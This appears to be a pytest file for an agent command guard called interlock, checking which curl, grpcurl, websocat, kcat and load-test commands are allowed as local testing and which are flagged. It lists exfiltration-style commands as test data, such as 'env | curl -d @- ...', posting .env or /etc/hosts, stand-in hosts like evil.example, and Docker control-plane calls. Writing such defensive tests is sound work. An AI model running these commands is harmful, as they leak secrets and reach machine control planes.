"""Requests to this machine: trying out one's own server is free, control planes, deletes, files and tokens are not."""

from __future__ import annotations

from pathlib import Path

import pytest

from interlock.decide import decide
from interlock.model.action import Reading
from interlock.model.call import Call
from interlock.model.facts import Facts
from interlock.model.session import Session
from interlock.policy.compile import compile_policy
from interlock.reading.bash import follow_bash
from interlock.reading.read import read_call
from interlock.store.home.policies import default_file
from interlock.value import FrozenMap

POLICY = compile_policy((("default", default_file(), Path(default_file()).read_bytes()),))

FACTS = Facts(root="/p", home="/home/a")


def names(command: str) -> list[str]:
    return [action.name for action in follow_bash(command, cwd="/p", facts=FACTS).actions if action.name[:4] == "net:"]


@pytest.mark.parametrize(
    "command",
    [
        "curl -X POST localhost:8000/users -H 'content-type: application/json' -d '{\"name\": \"bob\"}'",
        "curl -s -X PUT http://127.0.0.1:3000/a -d x=1",
        "curl -X PATCH http://localhost/a",
        "curl --json '{}' http://[::1]:3000/a",
        "http POST localhost:8000/users name=bob",
        "http POST :8000/users name=bob",
        "wget --post-data=x=1 http://localhost:8000/a -O -",
    ],
)
def test_trying_out_a_server_of_ones_own_is_free(command: str) -> None:
    assert names(command) == ["net:local"]


@pytest.mark.parametrize(
    "command",
    [
        "curl -X DELETE localhost:8000/users/1",
        "curl -X POST localhost:2375/containers/create -d '{}'",
        "curl -X PUT 'http://localhost:9200/index' -d '{}'",
        "curl -X POST http://[::1]:8500/v1/kv/x -d 1",
        "curl -X POST http://127.0.0.1:9229/json -d 1",
        "curl -X POST localhost:8000/a -d @.env",
        "env | curl -d @- http://localhost:8080",
        "cat notes.txt | curl -X POST --data-binary @- localhost:8000/a",
        "curl -F file=@notes.txt localhost:8000/a",
        "curl -T notes.txt localhost:8000/a",
        "curl -X POST localhost:8000/a -H 'Authorization: Bearer abc'",
        'curl -X POST localhost:8000/a -H "X-Key: $KEY"',
        "curl -X POST -u me:pw localhost:8000/a",
        "curl -X POST https://api.example/a -d x=1",
        "curl -X POST http://localhost.evil.example/a -d x=1",
        "curl -x http://proxy.example:1 -X POST localhost:8000/a -d 1",
    ],
)
def test_the_rest_is_sent(command: str) -> None:
    assert names(command) == ["net:send"]


@pytest.mark.parametrize(
    ("url", "opaque"),
    [
        ("http://127.0.0.1:2375/containers/json", True),
        ("http://localhost:9200/_all/_search", True),
        ("http://localhost:3000/users", False),
        ("https://docs.example:9200/x", False),
    ],
)
def test_a_fetch_from_a_control_plane_of_this_machine_is_asked_about(url: str, opaque: bool) -> None:
    call = Call(tool="WebFetch", input=FrozenMap({"url": url, "prompt": "x"}), cwd="/p")
    assert bool(read_call(call, FACTS).opaque) is opaque


class Straight(dict[str, str]):
    """Every path leads where its text says."""

    def get(self, path: str, default: object = None) -> str:
        return path


def verdict(command: str) -> str:
    call = Call(tool="Bash", input=FrozenMap({"command": command}), cwd="/p")
    found = follow_bash(command, cwd="/p", facts=FACTS, real=Straight())
    reading = Reading(call="sha256:c", projection="sha256:p", actions=tuple(found.actions), opaque=tuple(found.opaque))
    return decide(call, reading, POLICY, Session(), ()).verdict.name


@pytest.mark.parametrize(
    "command",
    [
        "curl -d @tests/data/sample.json localhost:8000/items",
        "curl --json @/tmp/body.json http://127.0.0.1:8000/items",
        "curl --data-urlencode note@README.md localhost:8000/notes",
        "curl -sc jar.txt -d user=a localhost:8000/login && curl -sb jar.txt localhost:8000/me",
        "curl -b /tmp/jar -X POST -d a=1 localhost:8000/items",
        "hey -n 200 -c 20 http://localhost:8000/",
        "ab -n 100 -c 10 http://127.0.0.1:8000/",
        "wrk -t2 -c10 -d5s http://localhost:8000/",
        "oha --no-tui http://localhost:3000",
        "autocannon -c 10 -d 5 http://localhost:3000",
        "grpcurl -plaintext localhost:50051 list",
        "grpcurl -plaintext localhost:50051 describe acme.Api",
        "grpcurl -plaintext -d '{\"id\": 1}' localhost:50051 acme.Api/Get",
        "kcat -b localhost:9092 -L",
        "kcat -b localhost:9092 -t orders -C -e -o -5",
        "websocat ws://localhost:8000/ws",
        "echo '{}' | websocat -1 ws://localhost:8000/ws",
        "wscat -c ws://localhost:3000 -x hi",
        "kafka-topics.sh --bootstrap-server localhost:9092 --list",
        "kafka-topics --bootstrap-server localhost:9092 --describe --topic orders",
    ],
)
def test_other_programs_and_files_of_the_project_are_free_here(command: str) -> None:
    assert verdict(command) == "allow"


@pytest.mark.parametrize(
    "command",
    [
        # secrets, what is outside the project, and what is uploaded as a file
        "curl -d @.env localhost:8000/items",
        "curl -d @/etc/hosts localhost:8000/items",
        "curl -d @/home/a/notes.txt localhost:8000/items",
        "cp .env a.json; curl -d @a.json localhost:8000/items",
        "curl -b ~/.config/cookies localhost:8000/me",
        "curl -F file=@data/x.csv localhost:8000/upload",
        "curl -T data/x.csv localhost:8000/upload",
        "curl -d @$FILE localhost:8000/items",
        # elsewhere
        "curl -d @a.json https://api.example/items",
        "curl -d @a.json localhost:8000 https://api.example",
        "curl -d @a.json localhost.evil.example:8000",
        "curl -x http://proxy.example:1 -d @a.json localhost:8000",
        "curl --connect-to ::evil.example:80 -d @a.json localhost:8000",
        "curl -d @a.json telnet://localhost:8000",
        "curl -b jar.txt https://api.example/me",
        "hey https://api.example/",
        "hey -x http://proxy.example:1 http://localhost:8000/",
        "ab -X proxy.example:1 http://localhost:8000/",
        "autocannon -S /run/docker.sock http://localhost:3000",
        "grpcurl api.example:443 list",
        "grpcurl -plaintext -unix /run/x.sock list",
        "kcat -b localhost:9092,broker.example:9092 -L",
        "wscat -c wss://ws.example/x -x data",
        "websocat wss://ws.example/x",
        # control planes, deletes, tokens
        "curl -d @a.json localhost:9200/items",
        "curl -d '{}' localhost:02375/containers/create",
        "curl -d '{}' 'http://localhost:2375#x'",
        "curl -X DELETE -d @a.json localhost:8000/items/1",
        "curl -H 'Authorization: Bearer x' -d @a.json localhost:8000",
        "hey http://localhost:2375/",
        "hey -m DELETE http://localhost:8000/",
        "hey -a me:pw http://localhost:8000/",
        "hey -D data/x.csv http://localhost:8000/",
        "wrk -s load.lua http://localhost:8000/",
        "autocannon --on-port / http://localhost:3000 -- node x.js",
        "grpcurl -plaintext localhost:2379 list",
        "grpcurl -plaintext localhost:50051 acme.Users/DeleteUser",
        "grpcurl -plaintext -H 'authorization: Bearer x' localhost:50051 acme.Api/Get",
        "cat names.txt | grpcurl -plaintext -d @ localhost:50051 acme.Api/Get",
        "websocat ws://localhost:9229/x",
        "websocat ws-l:0.0.0.0:80 ws://localhost:8000/ws",
        "cat names.txt | websocat ws://localhost:8000/ws",
        # code, files and messages
        "kcat -b localhost:9092 -X plugin.library.paths=/tmp/x.so -L",
        "kcat -b localhost:9092 -P -t orders data/x.csv",
        "kafka-topics.sh --bootstrap-server localhost:9092 --delete --topic orders",
        "kafka-topics.sh --bootstrap-server localhost:9092 --list --command-config /tmp/x",
    ],
)
def test_the_exceptions_hold_for_every_program(command: str) -> None:
    assert verdict(command) != "allow"
